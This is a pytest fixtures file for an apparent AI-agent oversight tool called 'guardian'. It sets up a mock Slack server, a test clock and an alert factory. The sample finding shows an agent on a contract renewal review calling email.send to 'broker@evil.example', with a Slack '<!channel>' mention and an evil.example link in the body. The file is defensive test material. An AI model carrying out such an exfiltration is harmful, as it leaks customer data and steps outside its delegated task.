"""A Slack server, a clock that tests move, and an alert to send."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from receivers import Dripping, Mailbox, Receiver
from slack_server import CHANNEL, TOKEN, SlackServer, message_limits

from guardian.alerting.port import Alert, Given
from guardian.alerting.slack import SlackChannel, SlackOptions
from guardian.bus.memory import MemoryBroker, MemoryProducer
from guardian.domain.finding import (
    Act,
    Effect,
    Evidence,
    Finding,
    Kind,
    NamedBreach,
    Reason,
    Subject,
    finding_id,
)
from guardian.wire.findings import AlertOutcome


@dataclass
class Time:
    """A clock that moves only when somebody sleeps on it."""

    seconds: float = 0.0
    slept: list[float] = field(default_factory=list)
    broker: MemoryBroker = field(default_factory=MemoryBroker)

    def clock(self) -> float:
        return self.seconds

    def sleep(self, seconds: float) -> None:
        self.slept.append(seconds)
        self.seconds += seconds

    def now(self) -> datetime:
        return datetime(2026, 5, 12, 17, 5, tzinfo=UTC) + timedelta(seconds=self.seconds)

    @property
    def given(self) -> Given:
        """What channels are opened with."""
        return Given(self.clock, self.sleep, self.now, lambda: MemoryProducer(self.broker))


@pytest.fixture
def slack(monkeypatch: pytest.MonkeyPatch) -> Iterator[SlackServer]:
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "ALL_PROXY", "all_proxy"):
        monkeypatch.delenv(name, raising=False)
    with SlackServer() as server:
        yield server


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    with Receiver() as server:
        yield server


@pytest.fixture
def mailbox() -> Iterator[Mailbox]:
    with Mailbox() as server:
        yield server


@pytest.fixture
def dripping() -> Iterator[Dripping]:
    with Dripping() as server:
        yield server


@pytest.fixture
def time() -> Time:
    return Time()


@pytest.fixture
def channel(slack: SlackServer, time: Time, request: pytest.FixtureRequest) -> SlackChannel:
    never = "slow_after" in request.node.name  # an answer that never comes is not waited for long
    options = SlackOptions(channel=CHANNEL, token=TOKEN, base_url=slack.url, timeout=2 if never else 30)
    return options.open(time.given)


@pytest.fixture
def broken_limits() -> Callable[[list[dict[str, Any]]], list[str]]:
    return message_limits


@pytest.fixture
def make_alert() -> Callable[..., Alert]:
    """The renewal review that slid to an outbound e-mail; `changes` go to the finding."""

    def make(n: int = 1, *, outcome: AlertOutcome | None = None, link: str | None = None, **changes: Any) -> Alert:
        at = datetime(2025, 11, 24, 17, 4, 11, tzinfo=UTC)
        finding = Finding(
            id=finding_id(Kind.DRIFT, "tenant_acme", f"sess_{n}", 0, 1),
            kind=Kind.DRIFT,
            tenant_id="tenant_acme",
            session_id=f"sess_{n}",
            transition=1,
            wanted=Effect.REVOKE,
            severity="critical",
            title="A renewal review sends customer data to an outside address",
            subject=Subject(
                delegator_id="user_7f3a91",
                agent_id="agent_renewal_review",
                task_id="task_contract_renewal_review_8842",
                purpose="review_customer_contract_for_renewal_risk",
                expires_at=at + timedelta(hours=1),
            ),
            act=Act(
                decision_id="dec_9",
                gateway="mcp-gw-eu-1",
                tool="email.send",
                arguments='{"to": "broker@evil.example", "body": "<!channel> see https://evil.example"}',
                argument="to",
                time=at,
            ),
            reasons=(
                Reason(signal="purpose_fit", share=0.55, value=0.97, text="sending e-mail is no part of a review"),
                Reason(signal="envelope_breach", share=0.3, value=1.0, text="email.send is not in allowed_tools"),
                Reason(signal="purpose_baseline", share=0.12, value=0.8, text="never seen in 214 past sessions"),
                Reason(signal="denial_pressure", share=0.03, value=0.2, text="one denial"),
            ),
            breaches=(NamedBreach(name="tool_not_allowed", detail="email.send is not delegated", hard=True),),
            evidence=Evidence(score=0.96, p_value=0.001, session_evidence=3.4, one_in=1250.0, actions_seen=7),
            features_missing=("result", "trace_id"),
            versions={"model": "drift-1", "policy": "p7"},
            correlation_id="cor_1",
            time=at,
        )
        return Alert(
            finding=finding.model_copy(update=changes),
            outcome=outcome
            or AlertOutcome(
                effect=Effect.REVOKE,
                allowed=True,
                note="strong evidence, budget left",
                policy_ids=("guardian-may-revoke-on-strong-evidence",),
                mode="enforce",
            ),
            link=link or "https://guardian.example/findings/1?tenant=a&case=2",
            case=f"tenant_acme/sess_{n}",
        )

    return make
